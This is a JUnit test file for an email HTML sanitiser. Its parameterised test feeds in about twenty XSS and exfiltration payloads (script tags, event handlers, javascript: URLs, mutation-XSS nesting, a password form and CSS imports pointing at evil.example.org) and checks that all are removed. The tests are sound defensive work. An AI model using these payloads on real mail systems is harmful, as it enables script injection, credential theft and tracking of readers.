package heed.message;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class MailHtmlTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<p>Hi<script>alert(1)</script></p>",
                "<p>Hi</p><scr<script>ipt>alert(1)</scr</script>ipt>",
                "<p>Hi<img src=x onerror=alert(1)></p>",
                "<p>Hi</p><svg onload=alert(1)><script>alert(1)</script></svg>",
                "<p>Hi</p><svg><style><img src=x onerror=alert(1)></style></svg>",
                "<p>Hi</p><math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
                "<p>Hi</p><form action='https://evil.example.org'><input name=password><button>Go</button></form>",
                "<p>Hi</p><iframe src='javascript:alert(1)'></iframe><object data=x></object><embed src=x>",
                "<p>Hi <a href='javascript:alert(1)'>x</a> <a href='&#106;avascript:alert(1)'>y</a></p>",
                "<p>Hi <a href='java\nscript:alert(1)'>x</a> <a href='vbscript:x'>y</a></p>",
                "<p>Hi <a href='data:text/html;base64,PHNjcmlwdD4='>x</a></p>",
                "<p>Hi</p><meta http-equiv=refresh content='0;url=https://evil.example.org'>",
                "<p>Hi</p><base href='https://evil.example.org/'><link rel=stylesheet href='//evil.example.org/a.css'>",
                "<p style=\"background:url('javascript:alert(1)')\">Hi</p>",
                "<p style=\"background:\\75 rl(https://evil.example.org/spy.png)\">Hi</p>",
                "<p style=\"width:expression(alert(1));behavior:url(x.htc);-moz-binding:url(x)\">Hi</p>",
                "<p>Hi</p><style>@import url(https://evil.example.org/a.css);</style>",
                "<p>Hi</p><img src='data:image/svg+xml,<svg onload=alert(1)>'>",
                "<p>Hi</p><template><script>alert(1)</script></template><noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
                "<!--><script>alert(1)</script>--><p>Hi</p>",
                "<p>Hi</p><table background='https://evil.example.org/spy.png'><tr><td>x</td></tr></table>",
                "<p>Hi</p><video poster='https://evil.example.org/spy.png' src=x></video><audio src=x autoplay></audio>",
            })
    void nothing_that_runs_sends_or_fetches_is_left(String html) {
        // when
        var clean = MailHtml.sanitise(html);
        // then
        assertThat(clean).contains("Hi");
        assertThat(clean.toLowerCase(java.util.Locale.ROOT))
                .doesNotContainPattern(
                        "<(script|svg|math|form|input|button|iframe|object|embed|meta|base|link|style|template|video|audio)")
                .doesNotContainPattern("\\son[a-z]+\\s*=")
                .doesNotContain(
                        "javascript:", "vbscript:", "expression", "behavior", "binding", "@import")
                .doesNotContainPattern("(src|href)\\s*=\\s*[\"']?data:")
                .doesNotContainPattern("(?<!data-)src\\s*=\\s*[\"']?https?:")
                .doesNotContain("evil.example.org/spy");
    }

    @Test
    void pictures_from_elsewhere_wait_and_trackers_are_gone() {
        var clean =
                MailHtml.sanitise(
                        "<p>Hi<img src='https://shop.example.org/shoe.png' width=200>"
                                + "<img src='https://shop.example.org/open.gif' width=1 height=1><img src='cid:part1@example.org'></p>");
        assertThat(clean)
                .contains(
                        "data-src=\"https://shop.example.org/shoe.png\"",
                        "src=\"cid:part1&#64;example.org\"")
                .doesNotContain("open.gif");
    }

    @Test
    void nesting_without_end_comes_to_an_end() {
        var deep = "<div>".repeat(50_000) + "Hi" + "</div>".repeat(50_000);
        assertThat(MailHtml.sanitise(deep)).isNotNull();
    }

    @Test
    void what_people_format_stays() {
        var clean =
                MailHtml.sanitise(
                        "<table><tr><td style='color:red'>Order</td></tr></table><ul><li>one</li></ul><blockquote>old</blockquote>");
        assertThat(clean).contains("<table", "<td", "color:red", "<ul", "<blockquote");
    }
}
